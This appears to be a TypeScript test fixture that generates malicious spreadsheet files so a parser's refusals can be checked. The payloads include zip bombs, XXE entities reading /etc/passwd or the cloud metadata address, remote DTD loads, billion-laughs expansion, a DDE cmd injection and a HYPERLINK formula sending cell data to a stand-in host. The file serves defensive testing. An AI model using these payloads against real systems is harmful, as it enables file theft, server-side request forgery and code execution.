import { CFB } from '@e965/xlsx';
import { strToU8, zipSync } from 'fflate';
import { packed, partsWith, rowXml, workbookOf } from '#platform/tabular/testing.ts';
import { bombIn, manyOfOne, saying } from './archives.ts';
import { few, type HostileFile, type HostileFiles } from './hostile-file.ts';

/** The least workbook, which is read. */
export const good = partsWith(rowXml('名') + rowXml('甲'));
const sheet = 'xl/worksheets/sheet1.xml';
const textOf = (name: string): string => Buffer.from(good[name] ?? []).toString();
const withPart = (name: string, content: string | Uint8Array = ''): Uint8Array =>
  packed({ ...good, [name]: typeof content === 'string' ? strToU8(content) : content });
const withRows = (xml: string): Uint8Array => packed(partsWith(rowXml('名') + xml));
/** The sheet behind a declaration, with something else in its cell. */
const declaring = (declaration: string, cell = '&l;'): Uint8Array =>
  withPart(sheet, `<?xml version="1.0"?>${declaration}${textOf(sheet).replace('甲', cell)}`);
const refusedAs = (refused: string, files: Readonly<Record<string, () => Uint8Array>>): HostileFiles =>
  Object.fromEntries(Object.entries(files).map(([name, make]): [string, HostileFile] => [name, { make, refused }]));

const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');
const wide = (order: 'utf16le' | 'utf16be', mark: string): Uint8Array => {
  const bytes = Buffer.from(mark + textOf(sheet), 'utf16le');
  return withPart(sheet, order === 'utf16be' ? bytes.swap16() : bytes);
};
const compound = (...streams: string[]): Uint8Array => {
  const file: unknown = CFB.utils.cfb_new();
  for (const name of streams) CFB.utils.cfb_add(file, name, Buffer.alloc(5_000));
  return new Uint8Array(CFB.write(file, { type: 'buffer' }) as Buffer);
};
const typed = (of: string): Uint8Array =>
  withPart('[Content_Types].xml', textOf('[Content_Types].xml').replace(/vnd\.openxml\S+sheet\.main/, of));

const bombs: HostileFiles = {
  'bomb.xlsx': { make: () => bombIn(good, sheet, 210), refused: 'tabular.inflates_too_far' },
  'bomb-in-picture.xlsx': {
    make: () => bombIn(good, 'xl/media/image1.png', 21),
    refused: 'tabular.inflates_too_far',
    limits: few,
  },
  'bomb-outside.xlsx': {
    make: () => bombIn(good, '../../etc/passwd', 21),
    refused: 'tabular.inflates_too_far',
    limits: few,
  },
  'bomb-said-to-be-small.xlsx': {
    make: () => saying(bombIn(good, sheet, 21), [22, 24], 1_000, 4),
    refused: 'tabular.inflates_too_far',
    limits: few,
  },
  'one-part-many-names.xlsx': { make: () => manyOfOne(good, 21), refused: 'tabular.inflates_too_far', limits: few },
  'cells-without-end.xlsx': {
    make: () => withRows(`<row>${'<c/>'.repeat(10)}</row>`.repeat(5_001)),
    refused: 'tabular.too_many_cells',
    limits: { cells: 50_000 },
  },
  'rows-without-end.xlsx': {
    make: () => withRows(rowXml('甲').repeat(2_001)),
    refused: 'tabular.too_many_rows',
    limits: { rows: 2_000 },
  },
  'merged-all-over.xlsx': {
    make: () => {
      const merges = '<mergeCell ref="A1:XFD1048576"/>'.repeat(200_000);
      const xml = Buffer.from(partsWith(rowXml('名') + rowXml('甲').repeat(20_000))[sheet] ?? []).toString();
      return withPart(sheet, xml.replace('</sheetData>', `</sheetData><mergeCells>${merges}</mergeCells>`));
    },
    refused: 'tabular.too_slow',
    limits: { time: 2_000 },
  },
};

const unsafe = refusedAs('tabular.unsafe_xml', {
  'laughs.xlsx': () => declaring(`<!DOCTYPE x [<!ENTITY l0 "lol">${laughs}]>`, '&l9;'),
  'file-of-the-server.xlsx': () => declaring('<!DOCTYPE x [<!ENTITY l SYSTEM "file:///etc/passwd">]>'),
  'address-within.xlsx': () => declaring('<!DOCTYPE x [<!ENTITY l SYSTEM "http://169.254.169.254/latest/">]>'),
  'remote-declaration.xlsx': () => declaring('<!DOCTYPE x SYSTEM "https://elsewhere.example/x.dtd">'),
  'parameter-entity.xlsx': () =>
    declaring('<!DOCTYPE x [<!ENTITY % l SYSTEM "https://elsewhere.example/x.dtd">%l;]>', '甲'),
  'declared-after-a-comment.xlsx': () => declaring(`<!--${' '.repeat(200_000)}--><!DOCTYPE x [<!ENTITY l "x">]>`),
  'declared-in-relations.xlsx': () =>
    withPart('xl/_rels/workbook.xml.rels', `<!DOCTYPE x [<!ENTITY l "x">]>${textOf('xl/_rels/workbook.xml.rels')}`),
  'utf-16-little.xlsx': () => wide('utf16le', '\uFEFF'),
  'utf-16-big.xlsx': () => wide('utf16be', '\uFEFF'),
  'utf-16-unmarked.xlsx': () => wide('utf16le', ''),
});

const active: HostileFiles = {
  ...refusedAs('tabular.macros', {
    'macro.xlsx': () => withPart('xl/vbaProject.bin'),
    'macro-sheet.xlsx': () => withPart('xl/macrosheets/sheet1.xml'),
    'macro-type.xlsx': () => typed('vnd.ms-excel.sheet.macroEnabled.main'),
    'macro-template.xlsx': () => typed('vnd.ms-excel.template.macroEnabled.main'),
    'macro.xls': () => compound('Workbook', '_VBA_PROJECT_CUR/VBA/dir'),
  }),
  ...refusedAs('tabular.external_links', {
    'linked.xlsx': () => withPart('xl/externalLinks/externalLink1.xml'),
    'connected.xlsx': () => withPart('xl/connections.xml'),
    'querying.xlsx': () => withPart('xl/queryTables/queryTable1.xml'),
  }),
  ...refusedAs('cells tabular.formula', {
    'formula.xlsx': () => withRows('<row><c><f>HYPERLINK("https://elsewhere.example/?"&amp;A1)</f><v>1</v></c></row>'),
    'array-formula.xlsx': () => withRows('<row><c><f t="array" ref="A2">SUM(A1:A9)</f><v>1</v></c></row>'),
    'command.xlsx': () => withRows(rowXml('=cmd|&apos; /C calc&apos;!A0')),
    'full-width-formula.xlsx': () => withRows(rowXml('＝1+1')),
  }),
};

const torn: HostileFiles = {
  ...refusedAs('tabular.encrypted', {
    'encrypted.xlsx': () => compound('EncryptionInfo', 'EncryptedPackage'),
    'encrypted-parts.xlsx': () => saying(packed(good), [6, 8], 1, 2),
  }),
  ...refusedAs('tabular.damaged', {
    'half.xlsx': () => packed(good).slice(0, 900),
    'half.xls': () => workbookOf({ 一: [['名'], ['甲']] }, undefined, 'biff8').slice(0, 1_500),
    'unknown-packing.xlsx': () => saying(packed(good), [8, 10], 12, 2),
    'other-bytes-than-packed.xlsx': () => {
      const bytes = zipSync(good, { level: 0 });
      bytes.set(strToU8('乙'), Buffer.from(bytes.buffer).indexOf('甲'));
      return bytes;
    },
    'four-billion-rows.xlsx': () => withRows('<row r="4000000000"><c r="A4000000000"><v>2</v></c></row>'),
  }),
  ...refusedAs('tabular.too_many_columns', {
    'far-column.xlsx': () => withRows('<row r="2"><c r="XFD2"><v>2</v></c></row>'),
    'million-columns.xlsx': () => withRows(`<row>${'<c t="n"><v>1</v></c>'.repeat(1_000_000)}</row>`),
    'wide-rows.xlsx': () => withRows(`<row>${'<c t="n"><v>1</v></c>'.repeat(16_000)}</row>`.repeat(120)),
  }),
};

export const workbooks: HostileFiles = { ...bombs, ...unsafe, ...active, ...torn };
